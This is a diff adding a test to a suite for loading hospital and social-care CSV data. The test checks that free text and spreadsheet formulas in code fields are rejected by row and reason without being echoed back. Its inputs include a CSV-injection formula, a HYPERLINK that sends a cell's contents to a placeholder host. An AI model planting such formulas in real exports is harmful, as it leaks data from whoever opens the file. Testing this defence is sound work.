@@ -260,6 +260,100 @@ describe('HES and social-care loading and the eight-step linkage', () => {
     expect(report.unlinked).toBe(2);
   });
 
+  it('source fields are codes: free text or a formula in a code field is rejected with its row and reason, never echoed; the rest stored (#19)', async () => {
+    const n = nhsNumber(415000001);
+    const formula = '=HYPERLINK("http://x.example/?a="&A1,"click")';
+    const hesReport = await upload(
+      'hes',
+      toCsv(HES_HEADER, [
+        hes('C01', n, '1970-01-02', '1', 'LS1 1AA', { diag: 'I63.9', opertn: 'W37.1', procode: 'RR801' }), // 1 ok
+        hes('C02', n, '1970-01-02', '1', 'LS1 1AA', { diag: 'i639', opertn: 'w371', procode: 'rr8' }), // 2 ok (case)
+        hes('C03', n, '1970-01-02', '1', 'LS1 1AA', { diag: 'stroke', opertn: 'X403' }), // 3 invalid_diagnosis_code
+        hes('C04', n, '1970-01-02', '1', 'LS1 1AA', { diag: formula }), // 4 field_too_long (the length check comes first)
+        hes('C05', n, '1970-01-02', '1', 'LS1 1AA', { diag: '=1+2' }), // 5 invalid_diagnosis_code
+        hes('C06', n, '1970-01-02', '1', 'LS1 1AA', { opertn: 'hip op' }), // 6 invalid_procedure_code
+        hes('C07', n, '1970-01-02', '1', 'LS1 1AA', { opertn: 'W3712' }), // 7 invalid_procedure_code
+        hes('C08', n, '1970-01-02', '1', 'LS1 1AA', { procode: 'LGI' }), // 8 ok (3 characters)
+        hes('C09', n, '1970-01-02', '1', 'LS1 1AA', { procode: 'Leeds' }), // 9 ok: five alphanumerics, upper-cased (no format tells a word from a code)
+        hes('C10', n, '1970-01-02', '1', 'LS1 1AA', { procode: 'RR 8' }), // 10 invalid_provider_code
+        hes('C11', n, '1970-01-02', '1', 'LS1 1AA', { procode: '@RR8' }), // 11 invalid_provider_code
+        hes('C12', n, '1970-01-02', '1', 'LS1 1AA', { diag: 'I6' }), // 12 invalid_diagnosis_code
+        hes('=C13', n, '1970-01-02', '1', 'LS1 1AA'), // 13 invalid_epikey
+        hes('C14', n, '1970-01-02', '1', 'LS1 1AA', { diag: '', opertn: '', procode: '' }), // 14 ok: blank codes are unknown
+      ]),
+    );
+    expect(hesReport.rejected).toEqual([
+      { row: 3, reason: 'invalid_diagnosis_code' },
+      { row: 4, reason: 'field_too_long' },
+      { row: 5, reason: 'invalid_diagnosis_code' },
+      { row: 6, reason: 'invalid_procedure_code' },
+      { row: 7, reason: 'invalid_procedure_code' },
+      { row: 10, reason: 'invalid_provider_code' },
+      { row: 11, reason: 'invalid_provider_code' },
+      { row: 12, reason: 'invalid_diagnosis_code' },
+      { row: 13, reason: 'invalid_epikey' },
+    ]);
+    const { rows: held } = await t.sql.query(
+      `SELECT epikey, diagnosis_icd10 AS d, procedure_opcs4 AS o, provider_code AS p
+         FROM hes_episodes WHERE epikey ~ '^C[0-9]+$' ORDER BY epikey`,
+    );
+    expect(held).toEqual([
+      { epikey: 'C01', d: 'I63.9', o: 'W37.1', p: 'RR801' },
+      { epikey: 'C02', d: 'I639', o: 'W371', p: 'RR8' },
+      { epikey: 'C08', d: 'I639', o: 'X403', p: 'LGI' },
+      { epikey: 'C09', d: 'I639', o: 'X403', p: 'LEEDS' },
+      { epikey: 'C14', d: null, o: null, p: null },
+    ]);
+
+    const scReport = await upload(
+      'social-care',
+      toCsv(SOCIAL_HEADER, [
+        social('E08000035', 'Q1', n, '1950-03-04', 'F', 'LS6 1AB', { service: 'Home Care' }), // 1 ok
+        social('E08000035', 'Q2', n, '1950-03-04', 'F', 'LS6 1AB', { service: 'nursing_care' }), // 2 ok
+        social('Leeds', 'Q3', n, '1950-03-04', 'F', 'LS6 1AB'), // 3 invalid_la_code
+        social('E0800003', 'Q4', n, '1950-03-04', 'F', 'LS6 1AB'), // 4 invalid_la_code
+        social('E08000035', 'Q5', n, '1950-03-04', 'F', 'LS6 1AB', {
+          service: 'Mrs Smith needs help with stairs',
+        }), // 5 invalid_service_type
+        social('E08000035', 'Q6', n, '1950-03-04', 'F', 'LS6 1AB', { service: formula }), // 6 invalid_service_type
+        social('e08000035', 'Q7', n, '1950-03-04', 'F', 'LS6 1AB', { service: 'Child in Need' }), // 7 ok
+        social('E08000035', 'Q8', n, '1950-03-04', 'F', 'LS6 1AB', { service: '=home_care' }), // 8 invalid_service_type
+      ]),
+    );
+    expect(scReport.rejected).toEqual([
+      { row: 3, reason: 'invalid_la_code' },
+      { row: 4, reason: 'invalid_la_code' },
+      { row: 5, reason: 'invalid_service_type' },
+      { row: 6, reason: 'invalid_service_type' },
+      { row: 8, reason: 'invalid_service_type' },
+    ]);
+    const { rows: sc } = await t.sql.query(
+      `SELECT person_id, la_code, service_type FROM social_care_records WHERE person_id ~ '^Q[0-9]$' ORDER BY person_id`,
+    );
+    expect(sc).toEqual([
+      { person_id: 'Q1', la_code: 'E08000035', service_type: 'home_care' },
+      { person_id: 'Q2', la_code: 'E08000035', service_type: 'nursing_care' },
+      { person_id: 'Q7', la_code: 'E08000035', service_type: 'child_in_need' },
+    ]);
+    // The reports (and the stored reports) name rows and reasons only, never a value.
+    for (const id of [hesReport.id, scReport.id]) {
+      const stored = await t.http.get(`/api/sources/loads/${id}`).set(dm).expect(200);
+      for (const body of [JSON.stringify(stored.body), JSON.stringify(hesReport), JSON.stringify(scReport)])
+        for (const v of [
+          'stroke',
+          'hip op',
+          'Leeds',
+          'Mrs Smith',
+          'HYPERLINK',
+          '=1+2',
+          'RR 8',
+          '@RR8',
+          '=C13',
+        ])
+          expect(body).not.toContain(v);
+    }
+  });
+
   it('links social-care rows, GENDER in letters or HES digits', async () => {
     const n = [nhsNumber(420000001), nhsNumber(420000101)];
     const ids = await insertPatients(t.sql, [
